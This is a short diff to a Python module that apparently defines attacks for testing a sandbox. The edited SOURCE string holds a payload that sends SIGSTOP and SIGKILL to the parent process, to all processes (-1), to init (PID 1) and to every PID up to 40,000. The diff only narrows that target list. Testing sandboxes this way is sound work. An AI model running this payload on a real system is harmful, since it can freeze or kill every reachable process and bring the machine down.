@@ -7,7 +7,7 @@ from .attack import Attack, RIGHT
 SOURCE = """
 import os, signal
 def kill():
-    for target in [os.getppid(), 0, -1, 1, -os.getpgid(0), *range(2, 40_000)]:
+    for target in [os.getppid(), -1, 1, *range(2, 40_000)]:
         if target not in (os.getpid(), 0):
             for number in (signal.SIGSTOP, signal.SIGKILL):
                 try: os.kill(target, number)
